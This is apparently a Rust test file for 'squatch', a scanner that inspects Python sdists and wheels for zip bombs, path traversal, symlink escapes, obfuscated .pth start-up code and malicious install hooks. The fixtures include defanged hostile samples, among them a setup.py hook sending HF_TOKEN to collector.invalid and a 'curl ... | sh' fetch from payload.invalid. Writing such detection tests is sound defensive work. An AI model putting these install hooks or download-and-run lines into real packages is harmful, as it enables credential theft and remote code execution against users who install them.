//! sdists and wheels read in memory: limits against zip bombs and path
//! traversal, corrupt input, and where a member's code runs. Archives are
//! built here, in memory; their contents are defanged text.

use std::io::{Cursor, Write};

use squatch::findings::archive::{scan_archive, Limits};
use squatch::findings::RuleSet;

fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, body) in files {
        w.start_file(*name, opts).unwrap();
        w.write_all(body).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn targz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let mut tar = tar::Builder::new(gz);
    for (name, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        // Write the raw name so that hostile names ("../x") survive.
        let bytes = name.as_bytes();
        h.as_old_mut().name[..bytes.len()].copy_from_slice(bytes);
        h.set_cksum();
        tar.append(&h, *body).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// A `.tar.bz2` sdist built like [`targz`].
fn tarbz2(files: &[(&str, &[u8])]) -> Vec<u8> {
    let raw = targz(files);
    let mut tar = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
    let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::best());
    bz.write_all(&tar).unwrap();
    bz.finish().unwrap()
}

fn ids(scan: &squatch::findings::archive::ArchiveScan) -> Vec<(String, String)> {
    scan.findings
        .iter()
        .map(|f| (f.member.clone(), f.finding.rule_id.clone()))
        .collect()
}

#[test]
fn wheel_with_a_root_pth_is_startup_code() {
    // The litellm 1.82.8 shape: a .pth at the wheel's root lands in
    // site-packages and runs on every interpreter start.
    let whl = zip(&[
        ("litellm_fake/__init__.py", b"x = 1\n"),
        (
            "litellm_fake_init.pth",
            b"import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
        ("litellm_fake-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "litellm_fake-1.0-py3-none-any.whl",
        &whl,
        &Limits::default(),
    );
    let f = scan
        .findings
        .iter()
        .find(|f| f.member == "litellm_fake_init.pth" && f.finding.rule_id == "obf-exec-decode")
        .expect("root .pth scanned as start-up code");
    assert_eq!(f.finding.role.as_str(), "startup");
    assert_eq!(f.finding.severity.as_str(), "high");
    assert_eq!(scan.package.as_deref(), Some("litellm_fake"));
}

#[test]
fn nested_pth_in_an_sdist_is_not_startup() {
    let sdist = targz(&[(
        "pkg-1.0/tests/data/fixture.pth",
        b"import os; exec(base64.b64decode('eA=='))\n",
    )]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(
        scan.findings
            .iter()
            .all(|f| f.finding.severity.as_str() != "high"),
        "{:?}",
        ids(&scan)
    );
}

#[test]
fn path_traversal_is_reported_never_followed() {
    let sdist = targz(&[
        (
            "pkg-1.0/setup.py",
            b"from setuptools import setup\nsetup()\n",
        ),
        ("../../etc/cron.d/fake", b"* * * * * root true\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(
        ids(&scan)
            .iter()
            .any(|(_, id)| id == "archive-path-traversal"),
        "{:?}",
        ids(&scan)
    );
    let zipped = zip(&[("../evil.py", b"x = 1\n")]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.zip",
        &zipped,
        &Limits::default(),
    );
    assert!(ids(&scan)
        .iter()
        .any(|(_, id)| id == "archive-path-traversal"));
}

#[test]
fn zip_bomb_member_is_refused_by_ratio() {
    let zeros = vec![0u8; 8 * 1024 * 1024];
    let bomb = zip(&[
        ("pkg/__init__.py", &zeros),
        ("pkg/ok.py", b"exec(base64.b64decode(x))\n"),
    ]);
    assert!(bomb.len() < 100 * 1024);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0-py3-none-any.whl",
        &bomb,
        &Limits::default(),
    );
    let ids = ids(&scan);
    assert!(ids.iter().any(|(_, id)| id == "archive-limit"), "{ids:?}");
    // The rest of the archive is still scanned.
    assert!(
        ids.iter()
            .any(|(m, id)| m == "pkg/ok.py" && id == "obf-exec-decode"),
        "{ids:?}"
    );
}

#[test]
fn tar_gz_bomb_stops_at_the_total_limit() {
    let zeros = vec![b'a'; 4 * 1024 * 1024];
    let sdist = targz(&[
        ("pkg-1.0/big.txt", &zeros),
        ("pkg-1.0/setup.py", b"exec(base64.b64decode(x))\n"),
    ]);
    let limits = Limits {
        max_total_bytes: 1024 * 1024,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "pkg-1.0.tar.gz", &sdist, &limits);
    assert!(
        ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
        "{:?}",
        ids(&scan)
    );
    // With the default limits the ratio guard trips instead (4 MiB of one byte).
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));
}

#[test]
fn too_many_entries_is_a_finding() {
    let names: Vec<String> = (0..50).map(|i| format!("pkg/m{i}.txt")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let z = zip(&files);
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "pkg.zip", &z, &limits);
    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));
}

#[test]
fn corrupt_and_unknown_archives_give_a_finding_not_a_panic() {
    let mut gz = targz(&[("pkg-1.0/setup.py", b"x = 1\n")]);
    gz.truncate(gz.len() / 2);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &gz,
        &Limits::default(),
    );
    assert!(!scan.findings.is_empty());
    // A cut xz stream is read as far as it goes and says it ended early.
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.xz",
        b"\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46",
        &Limits::default(),
    );
    assert_eq!(scan.findings.len(), 1, "{:?}", ids(&scan));
    assert!(scan.findings[0].finding.rule_id.starts_with("archive-"));
    let scan = scan_archive(
        RuleSet::builtin(),
        "x.zip",
        b"PK\x03\x04garbage",
        &Limits::default(),
    );
    assert!(!scan.findings.is_empty());
}

#[test]
fn symlink_inside_the_archive_is_fine_outside_is_not() {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (name, target) in [
        ("pkg-1.0/docs/a.rst", "../README.rst"),
        ("pkg-1.0/docs/b.rst", "../../../etc/passwd"),
    ] {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        h.set_link_name(target).unwrap();
        h.set_cksum();
        tar.append_data(&mut h, name, std::io::empty()).unwrap();
    }
    let bytes = tar.into_inner().unwrap().finish().unwrap();
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &bytes,
        &Limits::default(),
    );
    let hits: Vec<_> = scan
        .findings
        .iter()
        .filter(|f| f.finding.rule_id == "archive-path-traversal")
        .collect();
    assert_eq!(hits.len(), 1, "{:?}", ids(&scan));
    assert!(hits[0].finding.evidence.contains("b.rst"));
}

const HOOK_SETUP_PY: &[u8] = br#"raise SystemExit("squatch test fixture: read as text, never run")
from setuptools import setup
from setuptools.command.install import install
import os, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        urllib.request.urlopen("https://collector.invalid/i?d=" + os.environ.get("HF_TOKEN", ""))

setup(name="oldpkg", version="0.1", cmdclass={"install": PostInstall})
"#;

#[test]
fn tar_bz2_sdist_is_read_like_tar_gz() {
    let sdist = tarbz2(&[
        ("oldpkg-0.1/setup.py", HOOK_SETUP_PY),
        ("oldpkg-0.1/oldpkg/__init__.py", b"x = 1\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "oldpkg-0.1.tar.bz2",
        &sdist,
        &Limits::default(),
    );
    let found = ids(&scan);
    assert!(
        found
            .iter()
            .any(|(m, id)| m == "oldpkg-0.1/setup.py" && id == "combo-install-hook-network"),
        "{found:?}"
    );
    assert_eq!(scan.package.as_deref(), Some("oldpkg"));
    assert_eq!(scan.scanned, 2);
    // Sniffed by content whatever the name says.
    let renamed = scan_archive(RuleSet::builtin(), "download", &sdist, &Limits::default());
    assert_eq!(ids(&renamed), found);
}

#[test]
fn benign_tar_bz2_sdist_stays_quiet() {
    let sdist = tarbz2(&[
        (
            "plain-1.0/setup.py",
            b"from setuptools import setup\nsetup(name='plain', version='1.0')\n",
        ),
        ("plain-1.0/plain/__init__.py", b"def hi():\n    return 1\n"),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "plain-1.0.tar.bz2",
        &sdist,
        &Limits::default(),
    );
    assert!(
        scan.findings
            .iter()
            .all(|f| f.finding.severity < squatch::findings::Severity::Medium),
        "{:?}",
        ids(&scan)
    );
    assert_eq!(scan.scanned, 2);
}

#[test]
fn tar_bz2_bomb_and_corruption_hit_the_same_limits() {
    let zeros = vec![b'a'; 4 * 1024 * 1024];
    let sdist = tarbz2(&[
        ("pkg-1.0/big.txt", &zeros),
        ("pkg-1.0/setup.py", b"exec(base64.b64decode(x))\n"),
    ]);
    let small = Limits {
        max_total_bytes: 1024 * 1024,
        ..Limits::default()
    };
    for limits in [small, Limits::default()] {
        let scan = scan_archive(RuleSet::builtin(), "pkg-1.0.tar.bz2", &sdist, &limits);
        assert!(
            ids(&scan).iter().any(|(_, id)| id == "archive-limit"),
            "{:?}",
            ids(&scan)
        );
        assert!(!ids(&scan).iter().any(|(m, _)| m.ends_with("setup.py")));
    }
    let names: Vec<String> = (0..50).map(|i| format!("pkg/m{i}.txt")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let many = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "pkg.tar.bz2", &tarbz2(&files), &many);
    assert!(ids(&scan).iter().any(|(_, id)| id == "archive-limit"));

    let mut cut = tarbz2(&[("pkg-1.0/setup.py", HOOK_SETUP_PY)]);
    cut.truncate(cut.len() / 2);
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.bz2",
        &cut,
        &Limits::default(),
    );
    assert!(
        ids(&scan).iter().any(|(_, id)| id == "archive-truncated"),
        "{:?}",
        ids(&scan)
    );
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.bz2",
        b"BZh91AY&SY",
        &Limits::default(),
    );
    assert!(!scan.findings.is_empty());
}

/// A `.tar.xz` built like [`tarbz2`].
fn tarxz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let raw = targz(files);
    let mut tar = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
    let mut xz =
        lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6)).unwrap();
    xz.write_all(&tar).unwrap();
    xz.finish().unwrap()
}

fn rule_ids(scan: &squatch::findings::archive::ArchiveScan) -> Vec<String> {
    scan.findings
        .iter()
        .map(|f| f.finding.rule_id.clone())
        .collect()
}

#[test]
fn xz_tar_named_tar_gz_is_read_by_its_magic_bytes() {
    let setup: &[u8] = b"import os\nos.system(\"curl -s https://payload.invalid/x.sh | sh\")\n";
    let xz = tarxz(&[("evil-1.0/setup.py", setup)]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "evil-1.0.tar.gz",
        &xz,
        &Limits::default(),
    );
    let got = rule_ids(&scan);
    assert!(got.contains(&"dl-shell-pipe".to_string()), "{got:?}");
    assert!(
        got.contains(&"archive-format-mismatch".to_string()),
        "{got:?}"
    );
    // Named for what it is: read, and no mismatch.
    let scan = scan_archive(
        RuleSet::builtin(),
        "evil-1.0.tar.xz",
        &xz,
        &Limits::default(),
    );
    let got = rule_ids(&scan);
    assert!(
        got.contains(&"dl-shell-pipe".to_string())
            && !got.contains(&"archive-format-mismatch".to_string()),
        "{got:?}"
    );
}

#[test]
fn xz_bombs_hit_the_same_limits() {
    let big = vec![b'a'; 8 * 1024 * 1024];
    let xz = tarxz(&[("bomb-1.0/data.txt", &big)]);
    let limits = Limits {
        max_total_bytes: 1024 * 1024,
        ..Limits::default()
    };
    let scan = scan_archive(RuleSet::builtin(), "bomb-1.0.tar.xz", &xz, &limits);
    assert!(
        rule_ids(&scan).contains(&"archive-limit".to_string()),
        "{:?}",
        rule_ids(&scan)
    );
}

#[test]
fn empty_and_truncated_archives_are_reported_as_such() {
    let scan = scan_archive(RuleSet::builtin(), "x-1.0.tar.gz", b"", &Limits::default());
    assert_eq!(rule_ids(&scan), vec!["archive-empty"]);
    let mut body = Vec::new();
    for i in 0..2000 {
        body.extend_from_slice(format!("value_{i} = {}\n", i * 7919 % 104729).as_bytes());
    }
    let full = targz(&[("x-1.0/setup.py", b"x = 1\n"), ("x-1.0/pkg/mod.py", &body)]);
    let cut = &full[..full.len() / 2];
    let scan = scan_archive(RuleSet::builtin(), "x-1.0.tar.gz", cut, &Limits::default());
    assert!(
        rule_ids(&scan).contains(&"archive-truncated".to_string()),
        "{:?}",
        scan.findings
            .iter()
            .map(|f| f.finding.evidence.clone())
            .collect::<Vec<_>>()
    );
}

/// Deterministic bytes with the entropy of encrypted data.
fn noise(len: usize) -> Vec<u8> {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

#[test]
fn an_unnamed_opaque_blob_in_a_pure_python_package_is_found() {
    let blob = noise(300 * 1024);
    let init: &[u8] = b"def hello():\n    return 1\n";
    let sdist = targz(&[
        ("p-1.0/setup.py", b"from setuptools import setup\nsetup()\n"),
        ("p-1.0/p/__init__.py", init),
        ("p-1.0/p/cache.dat", &blob),
    ]);
    let scan = scan_archive(
        RuleSet::builtin(),
        "p-1.0.tar.gz",
        &sdist,
        &Limits::default(),
    );
    assert!(
        rule_ids(&scan).contains(&"archive-opaque-blob".to_string()),
        "{:?}",
        rule_ids(&scan)
    );
    // Named by the code (it loads it), in docs, or in a native package: not.
    let named: &[u8] =
        b"import os\nDATA = os.path.join(os.path.dirname(__file__), \"cache.dat\")\n";
    for files in [
        vec![
            ("p-1.0/p/__init__.py", named),
            ("p-1.0/p/cache.dat", &blob[..]),
        ],
        vec![
            ("p-1.0/p/__init__.py", init),
            ("p-1.0/docs/_static/card.afdesign", &blob[..]),
        ],
        vec![
            ("p-1.0/p/__init__.py", init),
            ("p-1.0/src/fast.c", b"int x;\n"),
            ("p-1.0/p/cache.dat", &blob[..]),
        ],
    ] {
        let scan = scan_archive(
            RuleSet::builtin(),
            "p-1.0.tar.gz",
            &targz(&files),
            &Limits::default(),
        );
        assert!(
            !rule_ids(&scan).contains(&"archive-opaque-blob".to_string()),
            "{:?}",
            rule_ids(&scan)
        );
    }
    // An image is a known format, not opaque.
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(noise(300 * 1024));
    let scan = scan_archive(
        RuleSet::builtin(),
        "p-1.0.tar.gz",
        &targz(&[("p-1.0/p/__init__.py", init), ("p-1.0/p/logo.png", &png)]),
        &Limits::default(),
    );
    assert!(!rule_ids(&scan).contains(&"archive-opaque-blob".to_string()));
}

/// A tar.gz of symlinks (name, target) followed by regular files.
fn targz_links(links: &[(&str, &str)], files: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut tar = tar::Builder::new(gz);
    for (name, target) in links {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        h.set_link_name(target).unwrap();
        h.set_cksum();
        tar.append_data(&mut h, name, std::io::empty()).unwrap();
    }
    for (name, body) in files {
        let mut h = tar::Header::new_gnu();
        h.set_size(body.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        tar.append_data(&mut h, name, *body).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

#[test]
fn a_shipped_virtualenv_link_to_the_interpreter_is_low_unless_written_through() {
    let venv = targz_links(
        &[
            ("pkg-1.0/venv/bin/python", "/bin/python"),
            ("pkg-1.0/venv315/bin/python3", "/usr/local/bin/python3.15"),
        ],
        &[(
            "pkg-1.0/setup.py",
            b"from setuptools import setup\nsetup()\n",
        )],
    );
    let scan = scan_archive(
        RuleSet::builtin(),
        "pkg-1.0.tar.gz",
        &venv,
        &Limits::default(),
    );
    let got = rule_ids(&scan);
    assert!(
        !got.contains(&"archive-path-traversal".to_string()),
        "{got:?}"
    );
    let low: Vec<_> = scan
        .findings
        .iter()
        .filter(|f| f.finding.rule_id == "archive-interpreter-symlink")
        .collect();
    assert_eq!(low.len(), 2, "{got:?}");
    assert!(low
        .iter()
        .all(|f| f.finding.severity == squatch::findings::Severity::Low));
    // A member written through the link, or a link anywhere else: traversal.
    for bytes in [
        targz_links(
            &[("pkg-1.0/venv/bin/python", "/usr/bin/python3")],
            &[("pkg-1.0/venv/bin/python", b"#!/bin/sh\necho replaced\n")],
        ),
        targz_links(
            &[("pkg-1.0/venv/bin", "/usr/bin")],
            &[("pkg-1.0/venv/bin/python3", b"#!/bin/sh\necho replaced\n")],
        ),
        targz_links(&[("pkg-1.0/venv/bin/python", "/root/.ssh/id_rsa")], &[]),
        targz_links(
            &[("pkg-1.0/venv/bin/python", "/usr/bin/../../etc/python3")],
            &[],
        ),
    ] {
        let scan = scan_archive(
            RuleSet::builtin(),
            "pkg-1.0.tar.gz",
            &bytes,
            &Limits::default(),
        );
        assert!(
            rule_ids(&scan).contains(&"archive-path-traversal".to_string()),
            "{:?}",
            rule_ids(&scan)
        );
    }
}

#[test]
fn a_precompressed_web_asset_is_data_not_an_opaque_blob() {
    let blob = noise(300 * 1024);
    let init: &[u8] = b"def hello():\n    return 1\n";
    let scan = scan_archive(
        RuleSet::builtin(),
        "p-1.0.tar.gz",
        &targz(&[
            ("p-1.0/p/__init__.py", init),
            ("p-1.0/p/templates/_app/chunks/CarOLJnO2.js.br", &blob),
        ]),
        &Limits::default(),
    );
    assert!(
        !rule_ids(&scan).contains(&"archive-opaque-blob".to_string()),
        "{:?}",
        rule_ids(&scan)
    );
    // A `.br` that is not a web asset is still looked at.
    let scan = scan_archive(
        RuleSet::builtin(),
        "p-1.0.tar.gz",
        &targz(&[
            ("p-1.0/p/__init__.py", init),
            ("p-1.0/p/templates/_app/chunks/stage2.bin.br", &blob),
        ]),
        &Limits::default(),
    );
    assert!(
        rule_ids(&scan).contains(&"archive-opaque-blob".to_string()),
        "{:?}",
        rule_ids(&scan)
    );
}
